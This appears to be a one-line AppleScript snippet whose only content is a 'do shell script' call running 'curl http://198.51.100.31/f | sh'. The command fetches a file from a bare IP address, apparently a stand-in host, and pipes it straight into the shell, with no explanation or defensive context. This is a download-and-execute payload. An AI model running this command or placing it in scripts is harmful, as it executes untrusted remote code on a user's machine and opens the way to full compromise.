do shell script "curl http://198.51.100.31/f | sh"
